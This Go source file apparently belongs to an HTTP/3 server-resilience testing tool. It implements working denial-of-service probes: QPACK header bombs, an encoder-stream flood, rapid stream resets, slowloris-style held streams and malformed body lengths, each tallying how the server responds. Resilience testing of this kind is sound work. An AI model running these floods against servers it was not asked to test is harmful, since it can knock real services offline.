package attack

import (
	"bytes"
	"context"
	"sync"
)

// probe sends the same wrong message t.Limit times, one stream after the other,
// and counts in Ends what came back: a status, "reset CODE", "closed CODE".
func (t Target) probe(ctx context.Context, limit int, message func(h *h3) []byte) (Stats, error) {
	t = t.withDefaults(limit)
	return t.overH3(ctx, func(ctx context.Context, h *h3, s *Stats) error {
		wire := message(h)
		for range t.Limit {
			stream, err := h.send(ctx, wire, true)
			if err != nil {
				return err
			}
			s.Sent++
			how := h.answer(ctx, stream)
			stream.CancelRead(0)
			s.countAnswer(how)
		}
		return nil
	})
}

func (s *Stats) countAnswer(how string) {
	switch {
	case len(how) == 3:
		s.Answered++
	case len(how) > 5 && how[:5] == "reset":
		s.Reset++
	case len(how) >= 6 && how[:6] == "closed":
		return // counted once for the connection
	}
	s.end(how, 1)
}

// H3CutData announces a DATA frame of 100 bytes and ends the stream after 50,
// without a Content-Length. (security Q7)
func H3CutData(ctx context.Context, t Target) (Stats, error) {
	return t.probe(ctx, 1, func(h *h3) []byte {
		wire := appendFrame(h.head("POST"), frameData, bytes.Repeat([]byte{'a'}, 100))
		return wire[:len(wire)-50]
	})
}

// H3ShortBody says Content-Length 10 and sends five bytes. (security Q8)
func H3ShortBody(ctx context.Context, t Target) (Stats, error) {
	return t.lengthProbe(ctx, "10", "aaaaa")
}

// H3LongBody says Content-Length 5 and sends ten bytes. (security Q8)
func H3LongBody(ctx context.Context, t Target) (Stats, error) {
	return t.lengthProbe(ctx, "5", "aaaaaaaaaa")
}

// H3NoBody says Content-Length 10 and ends the stream with the head. (security P1)
func H3NoBody(ctx context.Context, t Target) (Stats, error) {
	return t.lengthProbe(ctx, "10", "")
}

func (t Target) lengthProbe(ctx context.Context, length, body string) (Stats, error) {
	return t.probe(ctx, 1, func(h *h3) []byte {
		wire := h.head("POST", field{"content-length", length})
		if body != "" {
			wire = appendFrame(wire, frameData, []byte(body))
		}
		return wire
	})
}

// H3BlockedHeaders refers to an entry of a dynamic table that was never sent, so
// that decoding would have to wait for it. (security P16)
func H3BlockedHeaders(ctx context.Context, t Target) (Stats, error) {
	return t.probe(ctx, 1, func(*h3) []byte {
		return appendFrame(nil, frameHeaders, []byte{2, 0, 0x80})
	})
}

// staticLine is the longest entry of QPACK's static table, 74 bytes of
// content-security-policy, in two bytes (RFC 9204 appendix A, index 85).
var staticLine = []byte{0xff, 0x16}

// QPACKBomb repeats the longest entry of the static table 30,000 times in the head
// of a request: 60 KB become 3 MB. Unit: a request; default 50. (security Q1)
func QPACKBomb(ctx context.Context, t Target) (Stats, error) {
	return t.probe(ctx, 50, func(h *h3) []byte {
		block := appendFields(nil, field{":method", "GET"}, field{":scheme", "https"}, field{":authority", h.target.Host}, field{":path", h.target.Path})
		return appendFrame(nil, frameHeaders, append(block, bytes.Repeat(staticLine, 30_000)...))
	})
}

// QPACKTrailerBomb does the same in the trailers of a POST. (security Q2)
func QPACKTrailerBomb(ctx context.Context, t Target) (Stats, error) {
	return t.probe(ctx, 50, func(h *h3) []byte {
		wire := appendFrame(h.head("POST"), frameData, []byte("a"))
		return appendFrame(wire, frameHeaders, append([]byte{0, 0}, bytes.Repeat(staticLine, 30_000)...))
	})
}

// QPACKEncoderFlood fills the encoder stream with entries for a dynamic table that
// the server never allowed: it must end the connection (RFC 9204 §3.2.3), or at
// least stop reading. Unit: an entry of 100 bytes; default 100,000.
func QPACKEncoderFlood(ctx context.Context, t Target) (Stats, error) {
	t = t.withDefaults(100_000)
	return t.overH3(ctx, func(ctx context.Context, h *h3, s *Stats) error {
		stream, err := h.conn.OpenUniStreamSync(ctx)
		if err != nil {
			return err
		}
		if _, err := stream.Write([]byte{streamEncoder}); err != nil {
			return err
		}
		entry := appendPrefixed(nil, 0x40, 5, 1) // insert with literal name (RFC 9204 §4.3.3)
		entry = appendPrefixed(append(entry, 'x'), 0, 7, 90)
		entry = append(entry, bytes.Repeat([]byte{'a'}, 90)...)
		for range t.Limit {
			if _, err := stream.Write(entry); err != nil {
				return err
			}
			s.Sent++
		}
		return nil
	})
}

// H3RapidReset opens streams and resets each at once. Unit: a stream; default 10,000.
func H3RapidReset(ctx context.Context, t Target) (Stats, error) {
	t = t.withDefaults(10_000)
	return t.overH3(ctx, func(ctx context.Context, h *h3, s *Stats) error {
		wire := h.head("GET")
		for range t.Limit {
			stream, err := h.conn.OpenStreamSync(ctx)
			if err != nil {
				return err
			}
			stream.Write(wire)
			stream.CancelWrite(0x10c) // H3_REQUEST_CANCELLED
			stream.CancelRead(0x10c)
			s.Sent++
		}
		return nil
	})
}

// H3HeldHeaders opens streams and sends half of a HEADERS frame on each. It goes
// on until the server has ended every stream, or ctx ends. Unit: a stream;
// default 20. (security Q9)
func H3HeldHeaders(ctx context.Context, t Target) (Stats, error) {
	return t.heldStreams(ctx, func(h *h3) []byte { wire := h.head("GET"); return wire[:len(wire)/2] })
}

// H3HeldBody opens POSTs and sends half of a DATA frame on each, and no more. It
// goes on like [H3HeldHeaders]. Unit: a stream; default 20.
func H3HeldBody(ctx context.Context, t Target) (Stats, error) {
	return t.heldStreams(ctx, func(h *h3) []byte {
		wire := appendFrame(h.head("POST"), frameData, make([]byte, 100))
		return wire[:len(wire)-50]
	})
}

func (t Target) heldStreams(ctx context.Context, message func(h *h3) []byte) (Stats, error) {
	t = t.withDefaults(20)
	return t.overH3(ctx, func(ctx context.Context, h *h3, s *Stats) error {
		wire := message(h)
		ends := make(chan string, t.Limit)
		var readers sync.WaitGroup
		for range t.Limit {
			stream, err := h.send(ctx, wire, false)
			if err != nil {
				break
			}
			s.Sent++
			readers.Go(func() { ends <- h.answer(ctx, stream) })
		}
		readers.Wait()
		close(ends)
		for how := range ends {
			s.countAnswer(how)
		}
		return nil
	})
}
